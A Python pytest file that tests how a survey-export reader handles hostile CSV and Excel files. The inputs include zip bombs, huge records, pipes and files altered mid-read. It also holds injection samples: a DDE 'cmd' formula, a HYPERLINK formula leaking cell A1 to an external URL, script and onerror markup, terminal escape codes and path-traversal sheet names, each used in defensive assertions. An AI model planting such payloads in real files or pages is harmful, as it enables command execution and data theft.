"""Hostile files are refused with a sentence that says what must hold, or made harmless, and never read whole first."""

import csv
import io
import os
import subprocess
import sys
import time
import zipfile
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest

from cxstats import compare, read_export, score
from cxstats import tally as tally_of
from cxstats.responses.exports import delimited, excel, streams
from cxstats.responses.exports.layouts import Column, Layout, Vendor
from cxstats.responses.exports.scanning import scan_export


@pytest.mark.parametrize("letter", ["x", '"x', "é"])
def test_a_line_longer_than_a_record_may_be(tmp_path, letter):
    path = tmp_path / "long.csv"
    path.write_text("a,b\n1,2\n" + letter * (streams.LONGEST_RECORD + 1))
    with pytest.raises(ValueError, match=r"long\.csv.* is longer than 10,000,000 bytes, the most that one record"):
        read_export(path)


def test_a_quote_that_swallows_more_than_a_record_may_have(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text('a,b\n1,2\n3,"four\n' + "5,six\n" * 2_000_000)
    with pytest.raises(ValueError, match=r"the record that begins in line 3 is longer than 10,000,000 bytes"):
        read_export(path)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="peak memory is told by /proc")
def test_a_line_of_a_gigabyte_is_never_in_memory(tmp_path):
    path = tmp_path / "long.csv"
    with path.open("wb") as file:
        file.write(b"a,b\n1,")
        # Nothing is written to the disk for what a file skips: it reads as NUL bytes.
        file.seek(1_000_000_000)
        file.write(b"2\n")
    code = (
        "import sys; from cxstats import read_export\n"
        "def peak():\n"
        "    return next(int(line.split()[1]) for line in open('/proc/self/status') if line.startswith('VmHWM'))\n"
        "before = peak()\n"
        "try: read_export(sys.argv[1])\n"
        "except ValueError as refusal: print((peak() - before) // 1024, refusal)\n"
    )
    start = time.perf_counter()
    told = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=True).stdout
    megabytes, refusal = told.split(maxsplit=1)
    assert int(megabytes) < 150
    assert "long.csv" in refusal
    assert time.perf_counter() - start < 30


def book(tmp_path, rows, title="Sheet", name="book.xlsx"):
    workbook = openpyxl.Workbook()
    workbook.active.title = title
    for row in rows:
        workbook.active.append(row)
    workbook.save(tmp_path / name)
    return tmp_path / name


def test_a_zip_bomb_is_refused_before_it_unpacks(tmp_path):
    path = book(tmp_path, [["ces"], [5]])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet9.xml", b" " * 60_000_000)
    with pytest.raises(ValueError, match=r"book\.xlsx would unpack to 60,\d+,\d+ bytes, \d+ times its size; at most"):
        read_export(path)


def test_a_bomb_that_understates_its_size_is_refused(tmp_path):
    path = book(tmp_path, [["ces"], [5]])
    with zipfile.ZipFile(path) as whole:
        parts = {name: whole.read(name) for name in whole.namelist()}
    parts["xl/worksheets/sheet1.xml"] += b" " * 60_000_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    size = len(parts["xl/worksheets/sheet1.xml"])
    content = path.read_bytes().replace(size.to_bytes(4, "little"), (1_000).to_bytes(4, "little"))
    path.write_bytes(content)
    with pytest.raises(ValueError, match=r"book\.xlsx is a zip archive or a damaged Excel file"):
        read_export(path)


def test_a_workbook_larger_than_any_sheet_is_refused(tmp_path, monkeypatch):
    path = book(tmp_path, [["ces"], [5]])
    monkeypatch.setattr(excel, "MOST_UNPACKED", 1_000)
    with pytest.raises(ValueError, match=r"at most 1,000 bytes and 200 times are unpacked\. Export it as CSV"):
        read_export(path)


def test_formulas_stay_text(tmp_path):
    command = '=HYPERLINK("http://example.org/?"&A1,"click")'
    survey = read_export(book(tmp_path, [["ces", "said"], [5, command], ["=1+1", "fine"]]))
    assert survey.responses["said"].tolist() == [command, "fine"]
    assert survey.responses["ces"].tolist() == ["5", "=1+1"]
    assert "2 cells hold formulas; they are kept as text and not computed" in survey.source.notes
    path = tmp_path / "e.csv"
    path.write_text("ces,said\n5,=1+1\n4,@SUM(A1)\n3,'=cmd\n2,'tis\n")
    survey = read_export(path)
    assert survey.responses["said"].tolist() == ["=1+1", "@SUM(A1)", "=cmd", "'tis"]
    assert "the apostrophe that keeps a cell from being a formula removed in 1 cells" in survey.source.notes


@pytest.mark.parametrize("title", ["..", "x..y", "C&A <b>", "etc passwd%00"])
def test_a_sheet_name_is_a_name_only(tmp_path, title):
    survey = read_export(book(tmp_path, [["ces"], [5]], title), sheet=title)
    assert survey.source.format == f"Excel, sheet {title!r}"


def test_a_sheet_named_like_a_path_opens_no_file(tmp_path):
    (tmp_path / "secret.xml").write_text("secret")
    path = book(tmp_path, [["ces"], [5]])
    with zipfile.ZipFile(path) as whole:
        parts = {name: whole.read(name) for name in whole.namelist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'name="Sheet"', b'name="../../secret.xml"')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"/xl/worksheets/sheet1.xml", str(tmp_path / "secret.xml").encode()
    )
    with zipfile.ZipFile(path, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    with pytest.raises(ValueError, match=r"book\.xlsx|sheet"):
        read_export(path)


def test_nul_bytes_are_letters_or_refused(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(b"a,b\n" + b"1,fine\n" * 1_000 + b"2,no\x00thing\n")
    assert read_export(path).responses["b"].iloc[-1] == "no\x00thing"
    path.write_bytes(b"a,b\n" + b"\x00" * 500)
    with pytest.raises(ValueError, match="nul.csv"):
        read_export(path)


def test_an_archive_behind_text_is_no_workbook(tmp_path):
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        # A fixed day, since some bytes of a date are no letters in any encoding.
        archive.writestr(zipfile.ZipInfo("x", (2026, 1, 1, 0, 0, 0)), "y")
    path = tmp_path / "e.csv"
    path.write_bytes(b"a,b\n1,2\n" * 2_000 + stored.getvalue())
    assert read_export(path).source.format.startswith("text")


MARKUP = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(2)>"


@pytest.fixture
def hostile(tmp_path):
    """Read an export that holds markup and a terminal's commands in its name, names, texts, options and comments."""
    path = tmp_path / "<b>export.csv"
    colour = "\x1b]0;title\x07\x1b[31m"
    rows = [f"{4 + k % 2},{MARKUP if k % 2 else IMAGE},{IMAGE} {colour} {k}" for k in range(60)]
    path.write_text(f"csat {MARKUP},seg,said {colour}\n" + "\n".join(rows) + "\n", encoding="utf-16")
    return read_export(path)


def test_markup_is_shown_and_never_run(hostile):
    """In a notebook and a page the letters of a tag may stand, its angle brackets may not."""
    column = hostile.responses.columns[0]
    tally = tally_of(hostile.responses, column, by="seg", scale="csat-5")
    scores = score(tally, "mean")
    shown = {each: each._repr_html_() for each in (hostile, tally, scores, compare(scores))}
    for html in shown.values():
        for tag in ("<script", "<img", "<b>export"):
            assert tag not in html
    assert "&lt;script&gt;" in shown[scores]
    labelled = Vendor(
        "<i>made up</i>", "any", lambda rows: True, lambda rows: Layout([Column(name, IMAGE) for name in rows[0]])
    )
    assert "<i>" not in replace(hostile, source=replace(hostile.source, vendor=labelled.name))._repr_html_()


def test_names_and_questions_command_no_terminal(hostile):
    assert "\x1b" not in repr(hostile)
    assert "\x1b" not in "".join(hostile.questions.astype("str").to_numpy().ravel())
    assert hostile.responses.columns[2] == "said \ufffd]0;title\ufffd\ufffd[31m"
    assert hostile.responses.iloc[0, 2].startswith(IMAGE)  # a comment is kept as it was written


def test_counts_and_scores_command_no_terminal():
    names = ["\x1b[31mweb\x07", "shop\u202e", "line\nfeed", "tab\there"]
    frame = pd.DataFrame({"csat \x1b[2J": [1, 5, 4, 3] * 10, "seg \x9b": names * 10})
    tally = tally_of(frame, "csat \x1b[2J", by="seg \x9b", scale="csat-5")
    for shown in (repr(tally), repr(score(tally, "mean"))):
        assert not set("\x1b\x07\x9b\u202e\t") & set(shown)
        assert "web" in shown


def test_what_is_written_of_it_is_no_formula(tmp_path):
    path = tmp_path / "e.csv"
    path.write_text('ces,said\n5,"=cmd|\'/c calc\'!A1"\n4,@SUM(A1)\n3,"-2+3"\n2,"\t=1"\n')
    survey = read_export(path)
    survey.to_csv(tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8-sig") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "-", "\t"))]
    survey.to_xlsx(tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    assert {cell.data_type for row in sheet for cell in row} <= {"s", "n"}
    assert read_export(tmp_path / "out.xlsx").responses["said"].tolist() == survey.responses["said"].tolist()


@pytest.mark.parametrize("text", ["\n" * 300_000 + "a,b\n1,2\n", "sep=;\n", "sep=;\r\n\r\n"])
def test_a_table_that_does_not_begin_is_refused(tmp_path, text):
    path = tmp_path / "export.csv"
    path.write_bytes(text.encode())
    with pytest.raises(ValueError, match=r"export\.csv is no table: its first 200,000 bytes hold no cell"):
        read_export(path)


@pytest.mark.parametrize("stated", ['sep="', "sep="])
def test_a_line_that_states_no_delimiter_is_a_row(tmp_path, stated):
    """A carriage return is not what it states, or all cells of a row were one."""
    path = tmp_path / "export.csv"
    path.write_bytes(f"{stated}\r\nces,said\r\n5,fine\r\n4,well\r\n3,good\r\n".encode())
    survey = read_export(path)
    assert survey.source.format.endswith("comma between cells")
    assert survey.responses["ces"].tolist() == [5, 4, 3]


@pytest.mark.parametrize("delimiter", ['"', "\n", "\r", "ab"])
def test_what_can_be_no_delimiter(tmp_path, delimiter):
    path = tmp_path / "export.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(ValueError, match="a delimiter is one character, no quote and no line end"):
        read_export(path, delimiter=delimiter)


@pytest.mark.parametrize("encoding", ["zlib", "base64", "hex", "rot13", "bz2", "quopri", "no-such"])
def test_an_encoding_of_bytes_is_none_of_text(tmp_path, encoding):
    path = tmp_path / "export.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(ValueError, match=f"encoding '{encoding}' is not known"):
        read_export(path, encoding=encoding)


def test_a_word_of_a_million_letters_among_figures_takes_no_hours(tmp_path):
    path = tmp_path / "export.csv"
    path.write_text("id,nps\n" + "".join(f"{k},{k % 11}\n" for k in range(40)) + "41," + "a" * 1_000_000 + "\n")
    start = time.perf_counter()
    assert "column 'nps': text, since record 41 ('aaaa" in read_export(path).source.notes[0]
    assert time.perf_counter() - start < 10


def test_more_columns_than_any_survey_has(tmp_path, monkeypatch):
    path = tmp_path / "export.csv"
    path.write_text("," * 1_000_000 + "\n1\n")
    with pytest.raises(
        ValueError, match=r"export\.csv has 1,000,001 cells in one of its first rows, and 20,000 columns"
    ):
        read_export(path)
    monkeypatch.setattr(delimited, "MOST_COLUMNS", 2)
    path.write_text("a,b\n1,2\n")
    assert read_export(path).responses["b"].tolist() == [2]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no such pipes here")
@pytest.mark.parametrize("way", [read_export, scan_export])
def test_a_pipe_is_refused_and_not_waited_for(tmp_path, way):
    os.mkfifo(tmp_path / "pipe.csv")
    with pytest.raises(ValueError, match=r"pipe\.csv is a pipe or a device, and an export is read more than once"):
        way(tmp_path / "pipe.csv")


CHANGES = {
    "grows": lambda path: path.open("ab"),
    "shrinks": lambda path: path.open("r+b"),
    "is spoiled": lambda path: path.open("r+b"),
}


@pytest.mark.parametrize("way", [read_export, scan_export])
@pytest.mark.parametrize("change", CHANGES)
def test_a_file_that_changes_while_it_is_read_loses_no_record_in_silence(tmp_path, way, change):
    path = tmp_path / "export.csv"
    path.write_text("a,b\n" + "1,café\n" * 400_000, encoding="utf-8")
    changed = False

    def progress(_: int) -> None:
        nonlocal changed
        if not changed:
            changed = True
            with CHANGES[change](path) as file:
                if change == "grows":
                    file.write(b"2,half a rec")
                elif change == "shrinks":
                    file.truncate(2_000_000)
                else:
                    file.seek(2_500_000)
                    file.write(b"\xff\xfe")

    with pytest.raises(ValueError, match=r"^export\.csv changed while it was read; wait until it is written"):
        way(path, progress=progress)
